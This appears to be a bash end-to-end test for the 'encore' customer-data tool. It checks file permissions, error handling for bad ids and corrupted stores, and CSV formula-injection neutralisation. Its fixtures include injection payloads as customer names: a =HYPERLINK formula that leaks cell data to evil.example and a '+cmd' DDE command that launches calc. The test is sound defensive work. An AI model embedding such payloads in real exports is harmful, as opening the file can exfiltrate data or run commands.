#!/usr/bin/env bash
# test_store_input.sh — the store is input too, files with personal data are private, and every
# CSV the product writes is safe to open in a spreadsheet (issue 12, section 5): ids out of range,
# negative or far too sparse give a clear error, never a crash or a 4 TB allocation; a corrupted
# file gives an error; `encore check` runs SQLite's quick_check and Encore's invariants; the
# store, its -wal/-shm, column caches, exports and reports are 0600 under umask 022; CSV cells
# beginning with = + - @ tab or CR are neutralised; --excel writes a UTF-8 BOM.
. "$(dirname "$0")/lib.sh"
T=$E2E_TMP
j() { jget "$@"; }
umask 022
sqlw() { $PY -c "import sqlite3,sys; db=sqlite3.connect(sys.argv[1]); db.executescript(sys.argv[2]); db.commit()" "$ENCORE_DB" "$1"; }

$PY - "$T/orders.csv" <<'PY'
import sys
rows = ["order_id,customer_id,name,time,sku,qty,unit_price"]
names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
         "-2+3", "张三", "Plain"]
for i in range(300):
    c = i % 30
    rows.append(f"O{i},C{c:03d},x,2024-{1 + i % 12:02d}-{1 + i % 27:02d},S{i % 9},1,{10 + i % 7}")
open(sys.argv[1], "w").write("\n".join(rows) + "\n")
cust = ["customer_id,name"] + [f'C{c:03d},"{names[c % len(names)].replace(chr(34), chr(34) * 2)}"' for c in range(30)]
open(sys.argv[1].replace("orders", "customers"), "w").write("\n".join(cust) + "\n")
PY
"$ENCORE" import customers "$T/customers.csv" >/dev/null
"$ENCORE" import orders "$T/orders.csv" >/dev/null
"$ENCORE" score --as-of 2025-01-01 >/dev/null

# --- 0600 -------------------------------------------------------------------------------------
check "store file 0600 under umask 022" "$(stat -c %a "$ENCORE_DB")" 600
check "column cache 0600" "$(stat -c %a "$ENCORE_DB.columns")" 600
check "profile cache 0600" "$(stat -c %a "$ENCORE_DB.profiles.columns" 2>/dev/null || echo none)" 600
$PY - "$ENCORE_DB" "$T/walmode" <<'PY' &
import sqlite3, sys, time
db = sqlite3.connect(sys.argv[1]); db.execute("PRAGMA journal_mode=WAL")
db.execute("CREATE TABLE IF NOT EXISTS t_wal(x)"); db.execute("INSERT INTO t_wal VALUES(1)")
open(sys.argv[2], "w").write("ready"); time.sleep(3)
PY
WP=$!
for _ in $(seq 50); do [ -s "$T/walmode" ] && break; sleep 0.05; done
check "-wal file 0600" "$(stat -c %a "$ENCORE_DB-wal")" 600
check "-shm file 0600" "$(stat -c %a "$ENCORE_DB-shm")" 600
kill $WP 2>/dev/null; wait $WP 2>/dev/null
"$ENCORE" export profiles --output "$T/profiles.csv"
check "profile export 0600" "$(stat -c %a "$T/profiles.csv")" 600
"$ENCORE" audience export 'true' --now "2025-01-01" --fields customer_id,name --out "$T/aud.csv" 2>/dev/null
check "audience export 0600" "$(stat -c %a "$T/aud.csv")" 600
"$ENCORE" report --html "$T/report.html" --now 2025-01-01 >/dev/null 2>&1
check "report 0600" "$(stat -c %a "$T/report.html" 2>/dev/null || echo missing)" 600

# --- CSV formula injection --------------------------------------------------------------------
check "audience export: =HYPERLINK neutralised" "$(grep -c "^C000,\"'=HYPERLINK" "$T/aud.csv")" 1
check "audience export: +cmd neutralised" "$(grep -c "^C001,'+cmd|" "$T/aud.csv")" 1
check "audience export: @SUM neutralised" "$(grep -c "^C002,'@SUM" "$T/aud.csv")" 1
check "audience export: -2+3 neutralised" "$(grep -c "^C003,'-2+3" "$T/aud.csv")" 1
check "audience export: no BOM without --excel" "$(head -c 3 "$T/aud.csv" | od -An -tx1 | tr -d ' ')" "637573"
"$ENCORE" audience export 'true' --now "2025-01-01" --fields customer_id,name --out "$T/aud_x.csv" --excel 2>/dev/null
check "audience export --excel: UTF-8 BOM first" "$(head -c 3 "$T/aud_x.csv" | od -An -tx1 | tr -d ' ')" "efbbbf"
check "audience export --excel: Chinese intact" "$(grep -c '^C004,张三$' "$T/aud_x.csv")" 1
sqlw "UPDATE customers SET external_id = '=cmd()' WHERE external_id = 'C005'; UPDATE identities SET value = '=cmd()' WHERE value = 'C005'"
"$ENCORE" export profiles --output "$T/p2.csv"
check "export profiles: a formula id neutralised" "$(grep -c "^'=cmd()," "$T/p2.csv")" 1
check "export profiles: negative numbers stay numbers" "$($PY -c "import csv,sys; r=list(csv.DictReader(open(sys.argv[1]))); print(all(not v.startswith(\"'-\") or not v[2:3].isdigit() for row in r for v in row.values()))" "$T/p2.csv")" True
"$ENCORE" export profiles --output "$T/p3.csv" --excel
check "export profiles --excel: BOM" "$(head -c 3 "$T/p3.csv" | od -An -tx1 | tr -d ' ')" "efbbbf"

# --- encore check on a sound store --------------------------------------------------------------
run_rc "$ENCORE" check --json
check "check: a sound store passes" "$(j "$OUT" 'd["ok"]')" True
check "check: exit 0" "$RC" 0
check "check: quick_check among the checks" "$(j "$OUT" '[c["name"] for c in d["checks"]][0]')" sqlite_quick_check
run_rc "$ENCORE" check --bogus;  check "check: stray option exits 2" "$RC" 2

# --- the store as input: ids out of range -------------------------------------------------------
cp "$ENCORE_DB" "$T/good.db"
sqlw "UPDATE orders SET customer_id = -5 WHERE customer_id = 1; UPDATE customers SET id = -5 WHERE id = 1"
rm -f "$ENCORE_DB".*columns*
run_rc "$ENCORE" score --as-of 2025-01-01
check "customer id -5: score exits 1, no crash" "$RC" 1
check_match "customer id -5: a clear error" "$ERR" "^encore: score: the store holds customers id -5 .*encore check"
run_rc "$ENCORE" check --json
check "check: finds the negative id" "$(j "$OUT" '[c["broken"] for c in d["checks"] if c["name"]=="ids_in_range"][0]')" 1
check "check: exit 1 on a broken store" "$RC" 1
cp "$T/good.db" "$ENCORE_DB"; rm -f "$ENCORE_DB".*columns* "$ENCORE_DB-wal" "$ENCORE_DB-shm"
sqlw "UPDATE orders SET customer_id = 1000000000000 WHERE customer_id = 2; UPDATE customers SET id = 1000000000000 WHERE id = 2"
# a 4 GB address-space limit proves no 4 TB map is attempted (not under ASan: its shadow
# memory needs the address space)
if [ -n "${ENCORE_SANITIZED:-}" ]; then run_rc "$ENCORE" score --as-of 2025-01-01
else run_rc /usr/bin/env bash -c "ulimit -v 4000000; exec \"$ENCORE\" score --as-of 2025-01-01"; fi
check "customer id 10^12: exits 1 (no 4 TB allocation under a 4 GB limit)" "$RC" 1
check_match "customer id 10^12: a clear error" "$ERR" "customers id 1000000000000"
cp "$T/good.db" "$ENCORE_DB"; rm -f "$ENCORE_DB".*columns* "$ENCORE_DB-wal" "$ENCORE_DB-shm"
sqlw "UPDATE orders SET id = 900000000 WHERE id = 3"
run_rc "$ENCORE" score --as-of 2025-01-01
check "an order id far sparser than the rows: exits 1" "$RC" 1
check_match "and says so" "$ERR" "orders id 900000000 among only"
cp "$T/good.db" "$ENCORE_DB"; rm -f "$ENCORE_DB".*columns* "$ENCORE_DB-wal" "$ENCORE_DB-shm"
sqlw "PRAGMA ignore_check_constraints=ON; PRAGMA writable_schema=OFF; UPDATE products SET sku = NULL WHERE id = 1" 2>/dev/null || true
if [ "$(sql "SELECT count(*) FROM products WHERE sku IS NULL")" = 1 ]; then
  run_rc "$ENCORE" score --as-of 2025-01-01
  check "a product without a sku: exits 1" "$RC" 1
  check_match "and names it" "$ERR" "product #1 has no sku"
fi

# --- a corrupted file -----------------------------------------------------------------------------
cp "$T/good.db" "$ENCORE_DB"; rm -f "$ENCORE_DB".*columns* "$ENCORE_DB-wal" "$ENCORE_DB-shm"
$PY - "$ENCORE_DB" <<'PY'
import random, sys
random.seed(1)
b = bytearray(open(sys.argv[1], "rb").read())
for _ in range(200):
    i = random.randrange(len(b) // 3, len(b)); b[i] = random.randrange(256)
open(sys.argv[1], "wb").write(b)
PY
run_rc "$ENCORE" score --as-of 2025-01-01
check "corrupted file: score exits 1 (no crash)" "$RC" 1
check_match "corrupted file: an error, not a signal" "$ERR" "^encore: score: "
run_rc "$ENCORE" check
check "corrupted file: check exits 1" "$RC" 1
echo "$OUT$ERR" | head -3 | sed 's/^/    /'
check_match "corrupted file: check says what is wrong" "$OUT$ERR" "FAIL sqlite_quick_check|malformed|^encore: check: "
e2e_done
